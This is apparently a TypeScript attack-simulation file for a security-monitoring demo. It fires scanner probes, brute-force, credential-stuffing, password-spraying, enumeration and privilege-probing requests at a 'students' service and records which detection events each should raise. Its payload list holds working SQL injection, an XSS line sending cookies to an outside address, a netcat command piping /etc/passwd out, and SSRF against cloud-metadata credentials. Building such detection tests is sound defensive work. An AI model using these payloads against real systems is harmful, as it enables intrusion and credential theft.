/** One way to attack the students service of the demo. */
export interface Attack {
  readonly what: string;
  /** The types of security events that it is to become. */
  readonly expects: readonly string[];
  run(target: string): Promise<void>;
}

interface Ask {
  readonly from: string;
  readonly user?: string;
  readonly agent?: string;
  readonly body?: object;
}

/** The service believes the address that a proxy on its own machine tells, as services do. */
async function ask(url: string, { from, user, agent = 'Mozilla/5.0', body }: Ask): Promise<void> {
  const answer = await fetch(url, {
    method: body ? 'POST' : 'GET',
    headers: {
      'x-forwarded-for': from,
      'user-agent': agent,
      ...(user ? { 'x-user': user, 'x-role': 'pupil' } : {}),
      ...(body ? { 'content-type': 'application/json' } : {}),
    },
    body: body ? JSON.stringify(body) : undefined,
  });
  await answer.arrayBuffer();
}

async function times(count: number, work: (n: number) => Promise<void>): Promise<void> {
  for (let n = 1; n <= count; n++) await work(n);
}

const PROBES = [
  '/.env',
  '/.git/config',
  '/wp-login.php',
  '/phpmyadmin/index.php',
  '/actuator/env',
  '/cgi-bin/test.cgi',
];

export const attacks: readonly Attack[] = [
  {
    what: 'A scanner looks for known weaknesses',
    expects: ['scanner_probe', 'scanner'],
    run: async (target) => {
      for (const path of PROBES) await ask(target + path, { from: '203.0.113.10', agent: 'Nikto/2.5' });
    },
  },
  {
    what: 'Somebody tries injections in the search for students, again and again',
    expects: [
      'sql_injection_attempt',
      'xss_attempt',
      'path_traversal_attempt',
      'command_injection_attempt',
      'ssrf_attempt',
      'template_injection_attempt',
      'repeated_payload_attacks',
    ],
    run: async (target) => {
      const payloads = [
        "1' UNION SELECT username, password FROM users--",
        "1' OR '1'='1' --",
        '<script>document.location="http://203.0.113.20/?"+document.cookie</script>',
        '../../../../../../etc/passwd',
        '; cat /etc/passwd | nc 203.0.113.20 4444',
        'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
        '{{constructor.constructor("return process.env")()}}',
        "1'; WAITFOR DELAY '0:0:10'--",
      ];
      for (const payload of payloads) {
        await ask(`${target}/students/1?q=${encodeURIComponent(payload)}`, { from: '203.0.113.20' });
      }
    },
  },
  {
    what: 'A program guesses the password of one account',
    expects: ['brute_force'],
    run: (target) =>
      times(60, (n) =>
        ask(`${target}/students/sessions`, {
          from: '203.0.113.30',
          body: { name: 'principal', password: `guess-${n}` },
        }),
      ),
  },
  {
    what: 'A program tries a list of stolen names and passwords',
    expects: ['credential_stuffing'],
    run: (target) =>
      times(40, (n) =>
        ask(`${target}/students/sessions`, {
          from: '203.0.113.40',
          body: { name: `teacher-${n}`, password: 'stolen' },
        }),
      ),
  },
  {
    what: 'Many addresses try one account',
    expects: ['password_spraying'],
    run: (target) =>
      times(12, (n) =>
        ask(`${target}/students/sessions`, {
          from: `198.51.100.${n}`,
          body: { name: 'bursar', password: 'Spring2026' },
        }),
      ),
  },
  {
    what: 'A pupil reads one student after the other',
    expects: ['enumeration'],
    run: (target) => times(420, (n) => ask(`${target}/students/${n}`, { from: '203.0.113.50', user: 'pupil-7' })),
  },
  {
    what: 'A pupil tries whose grades may be read',
    expects: ['privilege_probing'],
    run: (target) => times(40, (n) => ask(`${target}/students/${n}/grades`, { from: '203.0.113.60', user: 'pupil-8' })),
  },
];
